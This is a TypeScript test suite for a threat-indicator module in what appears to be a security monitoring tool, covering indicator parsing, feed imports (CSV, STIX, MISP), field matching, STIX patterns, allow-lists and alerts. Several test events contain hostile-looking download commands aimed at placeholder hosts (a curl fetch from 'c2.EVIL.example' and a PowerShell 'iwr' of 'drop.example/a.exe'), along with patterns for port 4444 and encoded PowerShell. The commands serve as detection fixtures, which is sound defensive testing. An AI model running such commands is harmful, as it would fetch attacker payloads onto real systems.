/** Indicators: reading every form, looking them up against a plain list, patterns, the allow-list, files, alerts. */

import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { DecodedEvent } from '../../core/index.ts';
import { inCidr, parseCidr } from '../detection-cidr.ts';
import { evaluatePlain } from '../detection-plain.ts';
import { sampleEvent } from '../testing/detection-samples.ts';
import { createAllowList } from './indicator-allow.ts';
import { indicatorFile, readIndicators } from './indicator-file.ts';
import { type IndicatorRecord, importIndicators } from './indicator-import.ts';
import { createFinder } from './indicator-match.ts';
import { buildIndicators, openIndicators } from './indicator-set.ts';
import { readStixPattern, simpleValues } from './indicator-stix.ts';
import { importList, listIndicators, removeIndicators } from './indicator-store.ts';
import { readIndicator } from './indicator-value.ts';
import { createIndicatorWatcher } from './indicator-watch.ts';

const O = { source: 'list', confidence: 80, untilMs: null };
const setOf = (...values: string[]) =>
  openIndicators(buildIndicators(values.map((value) => ({ ...(readIndicator(value) as IndicatorRecord), ...O }))));

test.each([
  ['198.51.100.7', 'address', '198.51.100.7'],
  ['198[.]51[.]100[.]7', 'address', '198.51.100.7'],
  ['::ffff:198.51.100.7', 'address', '198.51.100.7'],
  ['2001:DB8::1', 'address', '2001:db8:0:0:0:0:0:1'],
  ['203.0.113.77/24', 'cidr', '203.0.113.0/24'],
  ['203.0.113.77/32', 'address', '203.0.113.77'],
  ['2001:db8::/32', 'cidr', '2001:db8:0:0:0:0:0:0/32'],
  ['*.Evil.Example.', 'domain', 'evil.example'],
  ['bücher.example', 'domain', 'xn--bcher-kva.example'],
  ['hxxps://evil[.]example/a?b=1#c', 'url', 'evil.example/a?b=1'],
  ['http://evil.example:8080/a', 'url', 'evil.example:8080/a'],
  ['https://evil.example/', 'domain', 'evil.example'],
  ['evil.example/gate.php', 'url', 'evil.example/gate.php'],
  ['D41D8CD98F00B204E9800998ECF8427E', 'hash', 'd41d8cd98f00b204e9800998ecf8427e'],
  ['Bad[at]evil.example', 'email', 'bad@evil.example'],
] as const)('%s is the %s %s', (text, type, value) => {
  expect(readIndicator(text)).toEqual({ type, value });
});

test.each(['', 'word', '1.2.3', '0.0.0.0/0', '300.1.1.1', 'a b.example', 'http://', 'x'.repeat(3000), '@', '-.-'])(
  '%s is none',
  (text) => {
    expect(readIndicator(text)).toBeNull();
  },
);

test('no text makes the reader throw', () => {
  fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 80 }), (text) => void readIndicator(text)));
});

test('plain lists, hosts files, CSV with and without a header', () => {
  const plain = importIndicators(
    '# list\n198.51.100.7\n\n0.0.0.0 ads.evil.example\nnothing here\n203.0.113.0/24 ; note\n',
    O,
  );
  expect(plain.records.map(({ value }) => value)).toEqual(['198.51.100.7', 'ads.evil.example', '203.0.113.0/24']);
  expect(plain.refused).toEqual([{ where: 'line 5', reason: expect.stringContaining('"nothing"') }]);
  const csv = importIndicators(
    '"first_seen","ioc_value","confidence_level","valid_until","reporter"\n"2026-01-01","evil.example","35","2027-01-01","kim"\n"x","198.51.100.7:443","","",""\n',
    O,
  );
  expect(csv.records).toEqual([
    { type: 'domain', value: 'evil.example', source: 'kim', confidence: 35, untilMs: Date.parse('2027-01-01') },
    { type: 'address', value: '198.51.100.7', source: 'list', confidence: 80, untilMs: null },
  ]);
  expect(importIndicators('7,evil.example,malware\n8,203.0.113.9,c2\n', O).records.map(({ value }) => value)).toEqual([
    'evil.example',
    '203.0.113.9',
  ]);
});

test('STIX bundles and MISP events', () => {
  const indicator = (pattern: string, more = {}) => ({
    type: 'indicator',
    id: `indicator--${pattern.length}`,
    name: 'n',
    pattern,
    pattern_type: 'stix',
    ...more,
  });
  const bundle = {
    type: 'bundle',
    objects: [
      indicator("[ipv4-addr:value = '198.51.100.7' OR domain-name:value IN ('a.example', 'b.example')]", {
        confidence: 20,
        valid_until: '2027-05-01T00:00:00Z',
      }),
      indicator("[file:hashes.'SHA-256' = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa']"),
      indicator("[network-traffic:dst_port = 4444 AND process:name = 'x.exe']"),
      indicator("[url:value = 'http://a.example/x'] FOLLOWEDBY [url:value = 'http://b.example/y']"),
      indicator('rule x { }', { pattern_type: 'yara' }),
      indicator("[domain-name:value = 'gone.example']", { revoked: true }),
      { type: 'malware', name: 'context' },
    ],
  };
  const stix = importIndicators(JSON.stringify(bundle), O);
  expect(stix.records.map(({ value, confidence }) => [value, confidence])).toEqual([
    ['198.51.100.7', 20],
    ['a.example', 20],
    ['b.example', 20],
    ['a'.repeat(64), 80],
  ]);
  expect(stix.patterns).toHaveLength(1);
  expect(stix.refused.map(({ reason }) => reason)).toEqual([
    expect.stringContaining('several observations'),
    expect.stringContaining('yara'),
    'revoked',
  ]);
  const misp = {
    Event: {
      Attribute: [
        { type: 'ip-dst|port', value: '203.0.113.5|443', to_ids: true },
        { type: 'filename|md5', value: 'a.exe|bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb', to_ids: true },
        { type: 'domain', value: 'context.example', to_ids: false },
        { type: 'comment', value: 'evil.example' },
      ],
      Object: [{ Attribute: [{ type: 'url', value: 'https://evil.example/x', to_ids: true }] }],
    },
  };
  expect(importIndicators(JSON.stringify(misp), O).records.map(({ value }) => value)).toEqual([
    'evil.example/x',
    '203.0.113.5',
    'b'.repeat(32),
  ]);
});

const event = (fields: Record<string, string | string[]>, norm: DecodedEvent['norm'] = {}) =>
  sampleEvent(fields, { norm });
const words = (set: ReturnType<typeof setOf>, one: DecodedEvent) =>
  createFinder(set)
    .find(one)
    .map(({ field, word }) => `${field}=${word}`);

test('every field that can carry one, also inside longer texts', () => {
  const set = setOf(
    '198.51.100.7',
    '203.0.113.0/24',
    'evil.example',
    'bad@mail.example',
    'cccccccccccccccccccccccccccccccc',
    'http://drop.example/a.exe',
    '2001:db8::/32',
  );
  expect(words(set, event({}, { src_ip: '198.51.100.7' }))).toEqual(['src_ip=198.51.100.7']);
  expect(words(set, event({}, { dst_ip: '203.0.113.200' }))).toEqual(['dst_ip=203.0.113.200']);
  expect(words(set, event({ Ip: '2001:db8:7::9' }))).toEqual(['Ip=2001:db8:7::9']);
  expect(words(set, event({ CommandLine: 'curl -k https://c2.EVIL.example:8443/x -o /tmp/x' }))).toEqual([
    'CommandLine=c2.EVIL.example',
  ]);
  expect(words(set, event({ Hashes: `SHA1=${'d'.repeat(40)},MD5=${'C'.repeat(32)}` }))).toEqual([
    `Hashes=${'C'.repeat(32)}`,
  ]);
  expect(words(set, event({ to: '<Bad@mail.example>, x@y.example' }))).toEqual(['to=Bad@mail.example']);
  expect(words(set, event({ cmd: 'powershell iwr http://drop.example/a.exe?x=1' }))).toEqual([
    'cmd=drop.example/a.exe',
  ]);
  expect(words(set, event({}, { domain: 'drop.example', url: '/a.exe' }))).toEqual(['url=drop.example/a.exe']);
  expect(words(set, event({ list: ['x', 'see evil.example.'] }))).toEqual(['list=evil.example']);
  for (const raw of [
    '{"m":"from\\t198.51.100.7\\r\\nto evil.example"}',
    '{"m":"see\\nx.evil.example"}',
    '{"m":"\\u2028evil.example"}',
  ])
    expect(createFinder(set).find({ ...event({}), raw }).length, raw).toBeGreaterThan(0);
  expect(createFinder(set).find({ ...event({}), raw: '{"u":"http:\\/\\/drop.example\\/a.exe"}' })).toHaveLength(1);
  expect(words(set, event({ peer: '198.51.100.7:55012' }))).toEqual(['peer=198.51.100.7']);
  expect(
    words(set, event({ a: 'notevil.example', b: '198.51.100.70', c: 'evil.example.org', d: '1.198.51.100.7' })),
  ).toEqual([]);
});

test('records that are read whole, skimmed or looked at field by field find the same', () => {
  const set = setOf('198.51.100.7', 'evil.example', 'e'.repeat(32), '2001:db8::/32', 'bad@mail.example');
  const piece = fc.constantFrom(
    '198.51.100.7',
    'x.evil.example',
    '2001:db8::5',
    'e'.repeat(32),
    'bad@mail.example',
    'a',
    ' ',
    '"',
    '12:30:11',
    'C:\\users',
    '.',
    ':',
    'setup.exe',
    'f'.repeat(31),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const text = pieces.join(' ');
      const found = (one: DecodedEvent) =>
        [
          ...new Set(
            createFinder(set)
              .find(one)
              .map(({ index }) => index),
          ),
        ].sort((a, b) => a - b);
      const expected = found(event({ text }));
      const raw = JSON.stringify({ text });
      expect(found({ ...event({ text }), raw })).toEqual(expected);
      expect(found({ ...event({ text }), raw: `${' '.repeat(300)}${raw}` })).toEqual(expected);
    }),
  );
  const hidden = { ...event({ text: 'evil.example' }), raw: '{"text":"\\u0065vil.example"}' };
  expect(createFinder(set).find(hidden)).toHaveLength(1);
});

test('a look-up answers as a plain list does', () => {
  const octet = fc.integer({ min: 0, max: 3 });
  const ip = fc.tuple(octet, octet, octet, octet).map((parts) => parts.map((n) => n * 64).join('.'));
  const cidr = fc.tuple(ip, fc.integer({ min: 1, max: 31 })).map(([base, bits]) => `${base}/${bits}`);
  const name = fc
    .array(fc.constantFrom('a', 'b', 'cc'), { minLength: 2, maxLength: 4 })
    .map((labels) => `${labels.join('.')}.example`);
  fc.assert(
    fc.property(fc.array(fc.oneof(ip, cidr, name), { maxLength: 30 }), ip, name, (list, address, host) => {
      const set = setOf(...list.filter((text) => readIndicator(text) !== null));
      const kinds = list.flatMap((text) => readIndicator(text) ?? []);
      const byAddress = kinds.some(
        ({ type, value }) =>
          (type === 'address' && value === address) ||
          (type === 'cidr' && inCidr(address, parseCidr(value) as NonNullable<ReturnType<typeof parseCidr>>)),
      );
      const byName = kinds.some(
        ({ type, value }) => type === 'domain' && (host === value || host.endsWith(`.${value}`)),
      );
      expect(words(set, event({ one: address })).length > 0).toBe(byAddress);
      expect(words(set, event({ two: host })).length > 0).toBe(byName);
    }),
    { numRuns: 300 },
  );
});

test('no event makes the finder throw, and what is found is in the list', () => {
  const set = setOf('198.51.100.7', 'evil.example', 'http://evil.example/x');
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom(...'evil.example:/@198.51.100.7[]-_ \u00e9\ud83d'.split('')), maxLength: 60 }),
      (text) => {
        for (const { index } of createFinder(set).find(event({ text })))
          expect(text.toLowerCase()).toContain(set.at(index).value);
      },
    ),
  );
});

test.each([
  ["[ipv4-addr:value = '198.51.100.7']", true],
  ["[ipv4-addr:value ISSUBSET '198.51.100.0/24']", true],
  ["[domain-name:value LIKE '%.example']", true],
  ["[domain-name:value LIKE 'evi_.example']", true],
  ["[process:command_line MATCHES 'enc\\\\s+[A-Z]+']", true],
  ['[network-traffic:dst_port > 4000 AND network-traffic:dst_port < 5000]', true],
  ['[NETWORK-traffic:dst_port = 1]', null],
  ['[network-traffic:dst_port NOT IN (1, 4444)]', false],
  ['[network-traffic:dst_port != 80]', true],
  ["[process:name = 'x.exe' AND (domain-name:value = 'no.example' OR network-traffic:dst_port = 4444)]", true],
  ["[domain-name:value = 'no.example'] OR [process:name = 'x.exe']", true],
  ['[EXISTS process:command_line]', true],
  ["[domain-name:value = 'no.example']", false],
] as const)('the pattern %s', (pattern, holds) => {
  const one = event(
    {},
    { dst_ip: '198.51.100.7', domain: 'evil.example', dst_port: 4444, process: 'x.exe', command_line: 'ps -enc ABC' },
  );
  const read = readStixPattern(pattern);
  if (holds === null) expect(read.kind).toBe('fault');
  else expect(read.kind === 'expr' && evaluatePlain(read.expr, one, true)).toBe(holds);
});

test.each([
  "[a:b = 'x'",
  "['x']",
  "[ipv4-addr:value = 'x'] AND [url:value = 'y']",
  `${'('.repeat(40)}[a:b=1]`,
  "[ipv4-addr:value = 'x'] WITHIN 5 SECONDS",
  '',
  "[x:y = 'z']",
  `[process:name MATCHES '${'(a*)*'.repeat(2000)}']`,
])('the pattern %s is refused with a reason', (pattern) => {
  expect(readStixPattern(pattern)).toEqual({ kind: 'fault', reason: expect.stringMatching(/.{8}/) });
  expect(simpleValues(pattern).kind).toBe('fault');
});

test('own and very common values never become alerts', () => {
  const allow = createAllowList(['192.0.2.0/24', 'hospital.example']);
  const reason = (text: string) => allow(readIndicator(text) as NonNullable<ReturnType<typeof readIndicator>>);
  for (const text of [
    '8.8.8.8',
    '10.1.2.3',
    '192.0.2.9',
    'www.hospital.example',
    'google.com',
    'd41d8cd98f00b204e9800998ecf8427e',
    '0.0.0.0/4',
    '192.0.0.0/16',
    '2001:4860:4860::8888',
  ])
    expect(reason(text), text).not.toBeNull();
  for (const text of ['198.51.100.7', 'evil.google.com', 'https://google.com/x', '203.0.113.0/24'])
    expect(reason(text), text).toBeNull();
});

test('import, list, renewal, expiry, removal; the file is there as a whole', async () => {
  const dataDir = await mkdtemp(join(tmpdir(), 'asepsis-ind-'));
  try {
    const o = { dataDir, own: [], nowMs: 1000 };
    const first = await importList(o, '198.51.100.7\n8.8.8.8\nevil.example\n', { ...O, source: 'a' });
    expect([first.added, first.allowedCount, first.total]).toEqual([2, 1, 2]);
    const second = await importList(o, 'evil.example\n203.0.113.1\n', {
      ...O,
      source: 'a',
      confidence: 10,
      untilMs: 5000,
    });
    expect([second.added, second.renewed]).toEqual([1, 1]);
    await importList(o, 'evil.example\n', { ...O, source: 'b', confidence: 90 });
    const { set } = await readIndicators(indicatorFile(dataDir));
    expect(set.at(set.findDomain(Buffer.from('x.evil.example'), 0, 14, 2000)).source).toBe('b');
    expect(set.findV4(0xcb007101, 6000)).toBe(-1);
    expect(set.findV4(0xcb007101, 2000)).toBeGreaterThanOrEqual(0);
    const page = await listIndicators(dataDir, { source: 'a' }, { limit: 2 });
    expect(page.items).toHaveLength(2);
    expect(page.next).not.toBeNull();
    expect(await removeIndicators(dataDir, { source: 'a' })).toBe(3);
    expect((await listIndicators(dataDir, {}, { limit: 10 })).items.map(({ value }) => value)).toEqual([
      'evil.example',
    ]);
  } finally {
    await rm(dataDir, { recursive: true });
  }
});

test('a find is an alert that names the indicator, once an hour and host; a refused knock is a small one', () => {
  const watcher = createIndicatorWatcher({ set: setOf('198.51.100.7', 'evil.example'), patterns: [] }, 'aaaaaaaa');
  const look = (one: DecodedEvent) => watcher?.look(one) ?? [];
  const out = event({}, { dst_ip: '198.51.100.7', src_ip: '10.1.1.5', host: 'fw-1' });
  const [alert] = look(out);
  expect(alert?.title).toBe('address 198.51.100.7 (from list) in dst_ip on fw-1');
  expect(alert?.rule.level).toBe('high');
  expect(alert?.entities.slice(0, 2)).toEqual([
    { type: 'address', value: '198.51.100.7', role: 'attacker' },
    { type: 'address', value: '10.1.1.5', role: 'victim' },
  ]);
  expect(look(out)).toEqual([]);
  expect(look({ ...out, timeMs: out.timeMs + 3_600_000 })).toHaveLength(1);
  const refused = event({}, { src_ip: '198.51.100.7', host: 'vpn-1', outcome: 'failure' });
  expect(look(refused)[0]?.rule.level).toBe('low');
  expect(watcher?.counts()).toEqual({ hits: 4, alerts: 3, patternsLeftOut: 0 });
});
